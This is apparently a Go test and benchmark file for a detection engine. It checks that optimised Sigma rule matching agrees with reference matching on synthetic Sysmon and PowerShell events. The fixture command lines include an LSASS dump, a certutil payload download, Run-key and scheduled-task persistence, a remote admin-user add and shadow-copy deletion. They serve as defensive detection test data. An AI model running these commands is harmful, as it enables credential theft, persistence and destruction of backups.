package eql_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/weft-dev/weft/correlator/eql"
	"github.com/weft-dev/weft/correlator/sigma"
	"github.com/weft-dev/weft/event"
)

const sigmaWindows = "../../../shared/corpus/sigma/rules/windows"

// sigmaPrograms compiles SigmaHQ's process_creation and ps_script rules,
// sharing cache as the engine's rules do when it is not nil.
func sigmaPrograms(tb testing.TB, cache *eql.FieldCache) []*eql.Program {
	tb.Helper()
	files, err := filepath.Glob(filepath.Join(sigmaWindows, "process_creation", "*.yml"))
	if err != nil || len(files) == 0 {
		tb.Skipf("SigmaHQ corpus not found at %s (%v); it lives in ../shared", sigmaWindows, err)
	}
	scripts, err := filepath.Glob(filepath.Join(sigmaWindows, "powershell", "powershell_script", "*.yml"))
	if err != nil {
		tb.Fatal(err)
	}
	files = append(files, scripts...)
	var progs []*eql.Program
	for _, path := range files {
		data, err := os.ReadFile(path)
		if err != nil {
			tb.Fatal(err)
		}
		f, err := sigma.Parse(data)
		if err != nil {
			continue // the sigma package's tests report these
		}
		for _, r := range f.Rules {
			q, err := r.Query(sigma.Options{})
			if err != nil {
				continue
			}
			var p *eql.Program
			if cache != nil {
				p, err = eql.CompileCached(q, cache)
			} else {
				p, err = eql.Compile(q)
			}
			if err == nil {
				progs = append(progs, p)
			}
		}
	}
	return progs
}

// sysmonProcessCreations builds n Sysmon process creation documents (event
// 1), every fourth a script block instead, as the normalizer writes their raw fields, from command lines of the
// kind the rules look for and of the kind they must let pass, some with
// non-ASCII text (a user's name, the dashes windash matches, the Kelvin
// sign and long s that fold onto ASCII letters).
func sysmonProcessCreations(n int) []event.Document {
	images := []string{
		`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\reg.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`C:\Windows\System32\schtasks.exe`, `C:\Users\Jürgen\AppData\Local\Temp\setup.exe`, `C:\Windows\System32\certutil.exe`,
		`C:\Windows\System32\wbem\WMIC.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`,
	}
	lines := []string{
		`cmd.exe /c whoami /all`,
		`powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`,
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full`,
		`reg.exe add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v Updater /t REG_SZ /d "C:\Users\Public\upd.exe" /f`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=de --field-trial-handle=1784,i,1234 /prefetch:1`,
		`schtasks.exe /Create /SC ONLOGON /TN "OneDrive Update" /TR "C:\Users\Jürgen\AppData\Roaming\od.exe"`,
		`certutil.exe -urlcache -split -f http://10.0.0.5/payload.bin C:\Windows\Temp\p.exe`,
		`wmic.exe /node:"10.0.0.7" process call create "cmd.exe /c net user admin P@ss /add"`,
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		`C:\Windows\Explorer.EXE`,
		`powershell –enc SQBFAFgA —nop ―w hidden`,
		"cmd /c echo \u212Aey \u017Fecret > C:\\ProgramData\\x.txt",
		`C:\Users\Jürgen\AppData\Local\Temp\setup.exe /S /D=C:\Programme\Über`,
		`vssadmin.exe delete shadows /all /quiet`,
		`net.exe localgroup administrators attacker /add`,
	}
	parents := []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\services.exe`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `C:\Windows\System32\cmd.exe`}
	docs := make([]event.Document, n)
	for i := range docs {
		if i%4 == 3 {
			docs[i] = scriptBlock(i, lines[i%len(lines)])
			continue
		}
		img, line, parent := images[i%len(images)], lines[i%len(lines)], parents[i%len(parents)]
		docs[i] = event.Document{"weft": map[string]any{
			"system": map[string]any{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "1", "Computer": "ws01.corp.example"},
			"event_data": map[string]any{
				"Image": img, "CommandLine": line, "ParentImage": parent, "ParentCommandLine": `"` + parent + `" /n`,
				"OriginalFileName": strings.ToUpper(filepath.Base(strings.ReplaceAll(img, `\`, "/"))), "CurrentDirectory": `C:\Windows\system32\`,
				"User": `CORP\jürgen`, "IntegrityLevel": "High", "Hashes": fmt.Sprintf("SHA256=%064X,IMPHASH=%032X", i, i),
				"Product": "Microsoft® Windows® Operating System", "Description": "Windows Command Processor", "Company": "Microsoft Corporation",
			},
		}}
	}
	return docs
}

// scriptBlock is a PowerShell script block (4104) of a few KiB, the
// longest values the ps_script rules search.
func scriptBlock(i int, line string) event.Document {
	var b strings.Builder
	for j := range 40 {
		fmt.Fprintf(&b, "$Result%d = Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Vendor\\App%d' -Name InstallPath -ErrorAction SilentlyContinue\n", j, i)
		if j == 20 {
			b.WriteString(line + "\n")
		}
	}
	return event.Document{"weft": map[string]any{
		"system":     map[string]any{"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": "4104", "Computer": "ws01.corp.example"},
		"event_data": map[string]any{"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": b.String(), "ScriptBlockId": fmt.Sprintf("%08x-0000-0000-0000-000000000000", i), "Path": `C:\Users\Jürgen\Documents\update.ps1`},
	}}
}

// TestSigmaLoweredMatching: SigmaHQ's process creation and script rules
// decide every document — with a field cache, through the shared search
// and the prefilters — as the reference matching (each pattern folding
// the value itself) does.
func TestSigmaLoweredMatching(t *testing.T) {
	t.Parallel()
	docs := sysmonProcessCreations(60)
	for _, cached := range []bool{false, true} {
		t.Run(fmt.Sprintf("cached=%v", cached), func(t *testing.T) {
			t.Parallel()
			var cache *eql.FieldCache
			if cached {
				cache = eql.NewFieldCache()
			}
			progs := sigmaPrograms(t, cache)
			refs := make([]*eql.Program, len(progs))
			for i, p := range progs {
				refs[i] = eql.ReferenceMatching(p)
			}
			matched := 0
			for i, d := range docs {
				if cache != nil {
					cache.Next()
				}
				for j, p := range progs {
					got, want := p.Match(d), refs[j].Match(d)
					if got != want {
						t.Errorf("%s on document %d: %v, reference %v", p.Query(), i, got, want)
					}
					if got {
						matched++
					}
				}
			}
			t.Logf("%d rules, %d documents, %d matches", len(progs), len(docs), matched)
			if matched == 0 {
				t.Fatal("no rule matched any document: the comparison tested nothing")
			}
		})
	}
}

// BenchmarkSigmaProcessCreation runs SigmaHQ's process creation and
// PowerShell script rules over Sysmon process creation documents and
// script blocks, as the engine runs them (one field cache, Next per
// document): with each field searched once per document for every rule's
// patterns and each rule behind its prefilter (lowered), and with each
// pattern folding the value itself, rule after rule (reference).
// cpu-ns/doc is the process's CPU time per document, steadier than wall
// time on a shared machine.
func BenchmarkSigmaProcessCreation(b *testing.B) {
	cache := eql.NewFieldCache()
	progs := sigmaPrograms(b, cache)
	docs := sysmonProcessCreations(100)
	refs := make([]*eql.Program, len(progs))
	for i, p := range progs {
		refs[i] = eql.ReferenceMatching(p)
	}
	// The first document builds the fields' shared search, a cost of
	// loading the rules rather than of a document.
	cache.Next()
	for _, p := range progs {
		p.Match(docs[0])
	}
	for _, c := range []struct {
		name  string
		progs []*eql.Program
	}{{"reference", refs}, {"lowered", progs}} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			cpu0, cpuOK := processCPU()
			for b.Loop() {
				for _, d := range docs {
					cache.Next()
					for _, p := range c.progs {
						p.Match(d)
					}
				}
			}
			if cpu1, ok := processCPU(); ok && cpuOK {
				b.ReportMetric(float64((cpu1-cpu0).Nanoseconds())/float64(b.N*len(docs)), "cpu-ns/doc")
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(docs)), "ns/doc")
		})
	}
	// The two in turn on each document, so that both see the same load
	// of a shared machine: speedup is reference time over lowered time.
	b.Run("interleaved", func(b *testing.B) {
		var ref, low time.Duration
		for b.Loop() {
			for _, d := range docs {
				cache.Next()
				t0 := time.Now()
				for _, p := range refs {
					p.Match(d)
				}
				cache.Next()
				t1 := time.Now()
				for _, p := range progs {
					p.Match(d)
				}
				ref, low = ref+t1.Sub(t0), low+time.Since(t1)
			}
		}
		n := float64(b.N * len(docs))
		b.ReportMetric(float64(ref.Nanoseconds())/n, "reference-ns/doc")
		b.ReportMetric(float64(low.Nanoseconds())/n, "lowered-ns/doc")
		b.ReportMetric(ref.Seconds()/low.Seconds(), "speedup")
	})
}
